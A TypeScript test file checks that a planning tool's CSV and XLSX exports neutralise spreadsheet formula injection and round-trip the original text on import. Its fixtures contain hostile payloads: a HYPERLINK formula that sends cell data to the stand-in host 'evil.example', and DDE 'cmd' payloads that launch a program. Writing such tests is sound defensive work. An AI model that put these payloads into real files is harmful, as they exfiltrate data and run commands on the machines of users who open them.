// Rule "exports are safe to open" (issue 13): text cells of a CSV or XLSX export that start
// with =, +, -, @, tab or carriage return get a leading apostrophe, so a spreadsheet shows them
// as text instead of running them as a formula; numbers stay numbers (negative ones too), and
// text that only looks like a negative number is left alone. The files are read back as a user's
// spreadsheet would get them: the CSV as text, the XLSX with exceljs. An import of the export
// gives the original text back.
import fs from 'node:fs';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { TestCore } from '../../helpers/core';
import { planCore } from '../handlers/helpers';

let t: TestCore;
beforeEach(async () => {
  t = await planCore();
});
afterEach(() => t.close());

/** Text a spreadsheet would run, and what the export must write instead. */
const dangerous: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")', `'=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")`],
  ['+358 40 123 4567', "'+358 40 123 4567"],
  ['-abc', "'-abc"],
  ['-1+cmd|" /C calc"!A0', `'-1+cmd|" /C calc"!A0`],
  ['@SUM(1,2)', "'@SUM(1,2)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
];
/** Text that is safe as it is. */
const harmless = ['Kotkan kaupunki', '-12', '-12,5', 'a=b', "'already quoted"];

const header = ['Nimi', '=Otsikko'];
const rows = () => [
  ...dangerous.map(([text], i) => [text, i]),
  ...harmless.map((text) => [text, -5.25]),
];

async function exportTable(format: 'csv' | 'xlsx'): Promise<string> {
  const file = path.join(t.dir, `out.${format}`);
  await t.call('export.table', { path: file, format, language: 'fi', title: 'Data', headers: header, rows: rows() });
  return file;
}

describe('a CSV export', () => {
  it('neutralises formula-like text and leaves numbers and plain text alone', async () => {
    const file = await exportTable('csv');
    const text = fs.readFileSync(file, 'utf8').replace(/^\ufeff/, '');
    const parsed = Papa.parse<string[]>(text, { delimiter: ';', skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(['Nimi', "'=Otsikko"]);
    expect(parsed.slice(1, 1 + dangerous.length).map((r) => r[0])).toEqual(dangerous.map(([, safe]) => safe));
    expect(parsed.slice(1 + dangerous.length).map((r) => r[0])).toEqual(harmless);
    // Numbers are written as numbers in the Finnish way, the negative ones untouched.
    expect(parsed.slice(1 + dangerous.length).map((r) => r[1])).toEqual(harmless.map(() => '-5,25'));
    // No line starts with a character a spreadsheet would run.
    for (const r of parsed) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(?:[.,]\d+)?$)/);
  });

  it('of a list neutralises what users typed into the plan', async () => {
    await t.call('stakeholder.create', { name: '=cmd|" /C calc"!A0', helix: 'business', type: 'sme', notes: '@SUM(A1:A9)' });
    const file = path.join(t.dir, 'stakeholders.csv');
    await t.call('export.list', { list: 'stakeholders', path: file, format: 'csv', language: 'en' });
    const text = fs.readFileSync(file, 'utf8');
    expect(text).toContain(`"'=cmd|"" /C calc""!A0"`);
    expect(text).toContain("'@SUM(A1:A9)");
    expect(text).not.toMatch(/(^|[,\n])=cmd/);
  });
});

describe('an XLSX export', () => {
  it('neutralises formula-like text cells and keeps number cells numbers', async () => {
    const file = await exportTable('xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0]!;
    expect(ws.getRow(1).getCell(2).value).toBe("'=Otsikko");
    dangerous.forEach(([, safe], i) => {
      const row = ws.getRow(2 + i);
      // XML reads a carriage return back as a line feed; the apostrophe before it is what counts.
      expect(row.getCell(1).value).toBe(safe.replace(/\r/g, '\n'));
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(2).value).toBe(i);
    });
    harmless.forEach((text, i) => {
      const row = ws.getRow(2 + dangerous.length + i);
      expect(row.getCell(1).value).toBe(text);
      expect(row.getCell(2).value).toBe(-5.25);
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    });
    // No cell anywhere is a formula.
    ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('imports back to the text the user typed', async () => {
    const name = '=cmd|" /C calc"!A0';
    await t.call('stakeholder.create', { name, helix: 'business', type: 'sme', notes: '-abc' });
    const file = path.join(t.dir, 'stakeholders.xlsx');
    await t.call('export.list', { list: 'stakeholders', path: file, format: 'xlsx', language: 'en' });
    const other = await planCore();
    try {
      const id = randomUUID();
      const opened = await other.call('import.open', { id, path: file, target: 'stakeholders' });
      await other.call('import.run', { id, columns: opened.columns });
      const [row] = await other.call('stakeholder.list', {});
      const back = await other.call('stakeholder.get', { id: row!.id });
      expect([back.name, back.notes]).toEqual([name, '-abc']);
    } finally {
      other.close();
    }
  });
});
